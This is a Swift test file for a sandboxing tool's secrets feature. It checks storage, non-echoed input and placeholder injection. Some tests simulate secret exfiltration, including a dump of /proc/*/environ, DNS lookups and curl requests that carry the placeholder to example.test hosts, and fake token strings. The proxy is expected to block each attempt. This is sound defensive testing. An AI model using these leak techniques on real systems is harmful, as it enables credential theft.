import CordonTestSupport
import Foundation
import Glibc
import Testing

/// `cordon secrets …` through the real binary, and what a sandbox whose profile binds a secret
/// sees: a placeholder, never the value, anywhere inside or in cordon's state and output.
@Suite(.serialized, .timeLimit(.minutes(5)))
struct SecretsCommandTests {
    // Assembled at run time so this file holds no literal that looks like a live key.
    static let value = "sk-live-" + "Vq7Nz2Lp9Wx4Rt6Ks8Bm"

    func json(_ text: String) throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any], "\(text)")
    }

    var keystoreDirectory: (SandboxHarness) -> String { { $0.state + "/cordon/secrets" } }

    /// Every file under `directory` whose bytes contain `needle`.
    static func filesContaining(_ needle: String, under directory: String) -> [String] {
        guard let walker = FileManager.default.enumerator(atPath: directory) else { return [] }
        var found: [String] = []
        while let relative = walker.nextObject() as? String {
            let path = directory + "/" + relative
            guard let data = FileManager.default.contents(atPath: path) else { continue }
            if data.range(of: Data(needle.utf8)) != nil { found.append(path) }
        }
        return found
    }

    func writeProfile(_ h: SandboxHarness, secrets: String) throws {
        try h.write("cordon/profiles/sec.yaml", "name: sec\nnetwork: none\nsecrets:\n" + secrets, in: h.root + "/config")
    }

    @Test func setListShowAndRemoveRoundTripWithoutTheValue() async throws {
        let h = try SandboxHarness()
        defer { h.cleanup() }
        let set = try await h.cordon(["secrets", "set", "OPENAI", "--stdin"], stdin: Self.value + "\n")
        #expect(set.status == 0, "\(set)")
        let store = keystoreDirectory(h) + "/keystore.json"
        #expect(FileManager.default.fileExists(atPath: store))
        #expect(Self.filesContaining(Self.value, under: h.root).isEmpty)

        let list = try await h.cordon(["secrets", "list", "--json"])
        #expect(list.status == 0, "\(list)")
        let listed = try json(list.stdout)
        #expect(listed["version"] as? Int == 1 && listed["key_source"] as? String == "master_key")
        let entries = try #require(listed["secrets"] as? [[String: Any]])
        #expect(entries.map { $0["name"] as? String } == ["OPENAI"])
        #expect(entries.first?["created"] is String && entries.first?["updated"] is String)

        try writeProfile(h, secrets: "  - name: OPENAI\n    env: OPENAI_API_KEY\n    domains: [api.openai.com]\n    inject: bearer\n")
        let show = try await h.cordon(["secrets", "show", "OPENAI", "--json"])
        #expect(show.status == 0, "\(show)")
        let shown = try json(show.stdout)
        #expect(shown["name"] as? String == "OPENAI")
        let profiles = try #require(shown["profiles"] as? [[String: Any]])
        #expect(profiles.map { $0["name"] as? String } == ["sec"] && profiles.first?["env"] as? String == "OPENAI_API_KEY", "\(profiles)")
        let text = try await h.cordon(["secrets", "show", "OPENAI"])
        for output in [list.stdout, list.stderr, show.stdout, show.stderr, text.stdout, text.stderr, set.stdout, set.stderr] {
            #expect(!output.contains(Self.value))
        }

        // Replacing keeps the entry's creation time.
        let again = try await h.cordon(["secrets", "set", "OPENAI", "--stdin"], stdin: Self.value + "-2")
        #expect(again.status == 0 && again.stderr.contains("replaced"), "\(again)")

        let rm = try await h.cordon(["secrets", "rm", "OPENAI"])
        #expect(rm.status == 0, "\(rm)")
        let after = try json(try await h.cordon(["secrets", "list", "--json"]).stdout)
        #expect((after["secrets"] as? [Any])?.isEmpty == true)
        let missing = try await h.cordon(["secrets", "rm", "OPENAI"])
        #expect(missing.status == 2 && missing.stderr.contains("no secret named OPENAI"), "\(missing)")
    }

    /// At a terminal the value is typed twice and never echoed; two different entries store nothing.
    @Test func aTypedValueIsNotEchoed() async throws {
        let h = try SandboxHarness()
        defer { h.cleanup() }
        let driver = """
            import os, pty, sys, select
            cordon, name, first, second = sys.argv[1:5]
            pid, fd = pty.fork()
            if pid == 0:
                os.execv(cordon, [cordon, "secrets", "set", name])
            seen = b""
            def until(marker):
                global seen
                while marker not in seen:
                    ready, _, _ = select.select([fd], [], [], 20)
                    if not ready: sys.exit("timed out waiting for %r in %r" % (marker, seen))
                    try: chunk = os.read(fd, 4096)
                    except OSError: sys.exit("ended before %r: %r" % (marker, seen))
                    if not chunk: sys.exit("ended before %r" % marker)
                    seen += chunk
            until(b"value for " + name.encode() + b": ")
            os.write(fd, first.encode() + b"\\n")
            until(b"again, value for")
            os.write(fd, second.encode() + b"\\n")
            while True:
                try: chunk = os.read(fd, 4096)
                except OSError: break
                if not chunk: break
                seen += chunk
            _, status = os.waitpid(pid, 0)
            sys.stdout.write(seen.decode("utf-8", "replace"))
            sys.exit(os.waitstatus_to_exitcode(status))
            """
        try h.write("driver.py", driver, in: h.root)
        let typed = try await SandboxHarness.run(
            ["/usr/bin/python3", h.root + "/driver.py", SandboxHarness.cordon, "TTYKEY", Self.value, Self.value], environment: h.environment())
        #expect(typed.status == 0, "\(typed)")
        #expect(!typed.stdout.contains(Self.value), "\(typed.stdout)")
        #expect(typed.stdout.contains("stored TTYKEY"), "\(typed.stdout)")
        let differ = try await SandboxHarness.run(
            ["/usr/bin/python3", h.root + "/driver.py", SandboxHarness.cordon, "OTHER", Self.value, Self.value + "x"], environment: h.environment())
        #expect(differ.status == 2 && differ.stdout.contains("differ"), "\(differ)")
        #expect(!differ.stdout.contains(Self.value))
        let listed = try json(try await h.cordon(["secrets", "list", "--json"]).stdout)
        #expect((listed["secrets"] as? [[String: Any]])?.map { $0["name"] as? String } == ["TTYKEY"])
    }

    @Test func badValuesAndNamesAreRefused() async throws {
        let h = try SandboxHarness()
        defer { h.cleanup() }
        let classic = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
        let refused = try await h.cordon(["secrets", "set", "GH", "--stdin"], stdin: classic)
        #expect(refused.status == 1 && refused.stderr.contains("classic") && refused.stderr.contains("--allow-classic"), "\(refused)")
        #expect(!refused.stderr.contains(classic))
        #expect(Self.filesContaining(classic, under: h.root).isEmpty)
        let allowed = try await h.cordon(["secrets", "set", "GH", "--stdin", "--allow-classic"], stdin: classic)
        #expect(allowed.status == 0, "\(allowed)")

        let empty = try await h.cordon(["secrets", "set", "EMPTY", "--stdin"], stdin: "\n")
        #expect(empty.status == 2 && empty.stderr.contains("empty"), "\(empty)")
        let badName = try await h.cordon(["secrets", "set", "../x", "--stdin"], stdin: "v")
        #expect(badName.status != 0 && badName.stderr.contains("not a valid secret name"), "\(badName)")
        // No terminal and no --stdin: refused rather than reading a value from a pipe unasked.
        let noTerminal = try await h.cordon(["secrets", "set", "X"], stdin: "v")
        #expect(noTerminal.status == 2 && noTerminal.stderr.contains("--stdin"), "\(noTerminal)")
    }

    @Test func thePassphraseModeWorksThroughADescriptor() async throws {
        let h = try SandboxHarness()
        defer { h.cleanup() }
        try h.write("right", "correct horse battery staple\n", in: h.root)
        try h.write("wrong", "correct horse battery stapler\n", in: h.root)
        func shell(_ script: String, stdin: String? = nil) async throws -> ProcessResult {
            try await SandboxHarness.run(
                ["/bin/sh", "-c", script], environment: h.environment(extra: ["CORDON_PASSPHRASE_FD": "3"]), directory: h.root, stdin: stdin)
        }
        let initialized = try await shell("\(SandboxHarness.cordon) secrets init --passphrase 3<right")
        #expect(initialized.status == 0, "\(initialized)")
        #expect(!FileManager.default.fileExists(atPath: keystoreDirectory(h) + "/master.key"))
        let set = try await shell("\(SandboxHarness.cordon) secrets set K --stdin 3<right", stdin: Self.value)
        #expect(set.status == 0, "\(set)")
        let wrong = try await shell("\(SandboxHarness.cordon) secrets set K2 --stdin 3<wrong", stdin: Self.value)
        #expect(wrong.status == 1 && wrong.stderr.contains("wrong passphrase"), "\(wrong)")
        #expect(Self.filesContaining(Self.value, under: h.root).isEmpty)
        #expect(Self.filesContaining("correct horse", under: h.state).isEmpty)
    }

    @Test(.enabled(if: SandboxHarness.namespacesAvailable, "user namespaces unavailable on this host"))
    func aSandboxSeesAPlaceholderAndNeverTheValue() async throws {
        let h = try SandboxHarness()
        defer { h.cleanup() }
        #expect(try await h.cordon(["secrets", "set", "OPENAI", "--stdin"], stdin: Self.value).status == 0)
        try writeProfile(h, secrets: "  - name: OPENAI\n    env: OPENAI_API_KEY\n    domains: [api.openai.com]\n")
        // Inside: every process's environment, and whether cordon's keystore is visible at all.
        let keystore = keystoreDirectory(h)
        let script =
            "env; echo ---; cat /proc/*/environ | tr '\\0' '\\n'; echo ---; ls \(keystore) 2>/dev/null && echo KEYSTORE-VISIBLE; echo ok"
        let r = try await h.cordon(["run", "--name", "sec", "--profile", "sec", "--workspace", h.workspace, "--", "/bin/sh", "-c", script])
        #expect(r.status == 0, "\(r)")
        let line = try #require(r.stdout.split(separator: "\n").first { $0.hasPrefix("OPENAI_API_KEY=") }, "\(r.stdout)")
        let placeholder = String(line.dropFirst("OPENAI_API_KEY=".count))
        #expect(placeholder.hasPrefix("cordon-ph-") && placeholder.count == "cordon-ph-".count + 32, "\(placeholder)")
        #expect(!r.stdout.contains(Self.value) && !r.stderr.contains(Self.value))
        #expect(!r.stdout.contains("KEYSTORE-VISIBLE") && !r.stdout.contains("master.key") && r.stdout.hasSuffix("ok\n"), "\(r.stdout)")
        #expect(r.stderr.contains("$OPENAI_API_KEY holds a placeholder") && r.stderr.contains("with network: none no proxy puts the value in"), "\(r.stderr)")
        // Nothing cordon keeps (state, logs, the keystore itself) holds the value.
        #expect(Self.filesContaining(Self.value, under: h.root).isEmpty)
        // The map for the proxy: names and placeholders only, 0600.
        let map = h.state + "/cordon/sandboxes/sec/placeholders.json"
        let document = try json(String(contentsOfFile: map, encoding: .utf8))
        let entries = try #require(document["placeholders"] as? [[String: Any]])
        #expect(entries.first?["placeholder"] as? String == placeholder && entries.first?["secret"] as? String == "OPENAI")
        #expect((try FileManager.default.attributesOfItem(atPath: map)[.posixPermissions] as? Int) == 0o600)

        // Unique per start.
        let second = try await h.cordon(["run", "--name", "sec", "--profile", "sec", "--workspace", h.workspace, "--", "/bin/sh", "-c", "echo $OPENAI_API_KEY"])
        #expect(second.status == 0 && second.stdout.hasPrefix("cordon-ph-") && !second.stdout.contains(placeholder), "\(second)")
    }

    /// The agent puts its placeholder in a host name (a DNS query, a CONNECT target) under a
    /// domain the profile allows: refused with rule `placeholder`, logged; the same name
    /// without it goes on to the usual decision.
    @Test(.enabled(if: SandboxHarness.namespacesAvailable, "user namespaces unavailable on this host"))
    func aPlaceholderInAHostNameIsRefusedAndLogged() async throws {
        let h = try SandboxHarness()
        defer { h.cleanup() }
        #expect(try await h.cordon(["secrets", "set", "OPENAI", "--stdin"], stdin: Self.value).status == 0)
        try h.write(
            "cordon/profiles/leak.yaml",
            "name: leak\negress:\n  domains: [\"*.example.test\"]\nsecrets:\n  - {name: OPENAI, env: K, domains: [api.openai.com]}\n",
            in: h.root + "/config")
        let script = """
            import os, socket, subprocess
            for name in (os.environ["K"] + ".example.test", "plain.example.test"):
                try:
                    socket.getaddrinfo(name, 443)
                    print("resolved", name)
                except OSError as error:
                    print("dns-failed", name)
            r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-x", os.environ["HTTPS_PROXY"],
                                "https://" + os.environ["K"].upper() + ".example.test/"], capture_output=True, text=True)
            print("connect", r.stdout, r.stderr.strip())
            # Plain HTTP: the placeholder in the query, then in a header, then neither.
            for extra in (["http://plain.example.test/?k=" + os.environ["K"]],
                          ["-H", "Authorization: Bearer " + os.environ["K"], "http://header.example.test/"],
                          ["http://clean.example.test/"]):
                r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-x", os.environ["HTTP_PROXY"]] + extra,
                                   capture_output=True, text=True)
                print("plain", extra[-1].split("/")[2], r.stdout)
            """
        let r = try await h.cordon(["run", "--name", "leak", "--profile", "leak", "--workspace", h.workspace, "--", "/usr/bin/python3", "-c", script])
        let placeholder = try String(contentsOfFile: h.state + "/cordon/sandboxes/leak/placeholders.json", encoding: .utf8)
        #expect(placeholder.contains("cordon-ph-"))
        #expect(r.stdout.contains("dns-failed cordon-ph-"), "\(r)")
        #expect(r.stderr.contains("cordon: ALERT: leak was refused"), "\(r.stderr)")
        #expect(r.stdout.contains("connect 403") || r.stdout.contains("403"), "\(r)")
        let log = try String(contentsOfFile: h.state + "/cordon/sandboxes/leak/network.jsonl", encoding: .utf8)
        let entries = try log.split(separator: "\n").map { try json(String($0)) }
        let refused = entries.filter { $0["rule"] as? String == "placeholder" }
        // The DNS query and the CONNECT target.
        #expect(refused.filter { ($0["host"] as? String ?? "").lowercased().contains("cordon-ph-") }.count >= 2, "\(log)")
        // Plain requests carrying it in the target or a header are refused before any dial.
        for host in ["plain.example.test", "header.example.test"] {
            #expect(entries.contains { ($0["host"] as? String) == host && $0["rule"] as? String == "placeholder" }, "\(host): \(log)")
        }
        #expect(entries.contains { ($0["host"] as? String) == "clean.example.test" && $0["rule"] as? String != "placeholder" }, "\(log)")
        // The name without the placeholder was decided by the profile's lists, not this rule.
        #expect(entries.contains { ($0["host"] as? String) == "plain.example.test" && $0["rule"] as? String != "placeholder" }, "\(log)")
    }

    @Test(.enabled(if: SandboxHarness.namespacesAvailable, "user namespaces unavailable on this host"))
    func aMissingSecretOrABrokenKeystoreStopsTheSandbox() async throws {
        let h = try SandboxHarness()
        defer { h.cleanup() }
        try writeProfile(h, secrets: "  - name: MISSING_KEY\n    domains: [api.example.com]\n")
        let r = try await h.cordon(["run", "--name", "nos", "--profile", "sec", "--workspace", h.workspace, "--", "/bin/sh", "-c", "echo RAN"])
        #expect(r.status == 125, "\(r)")
        #expect(!r.stdout.contains("RAN"))
        #expect(r.stderr.contains("cordon secrets set MISSING_KEY"), "\(r.stderr)")
        #expect(!FileManager.default.fileExists(atPath: h.state + "/cordon/sandboxes/nos"))

        #expect(try await h.cordon(["secrets", "set", "MISSING_KEY", "--stdin"], stdin: Self.value).status == 0)
        chmod(keystoreDirectory(h) + "/master.key", 0o644)
        let broken = try await h.cordon(["run", "--name", "nos", "--profile", "sec", "--workspace", h.workspace, "--", "/bin/sh", "-c", "echo RAN"])
        #expect(broken.status == 125 && !broken.stdout.contains("RAN"), "\(broken)")
        #expect(broken.stderr.contains(keystoreDirectory(h) + "/master.key") && broken.stderr.contains("chmod 600"), "\(broken.stderr)")
    }
}
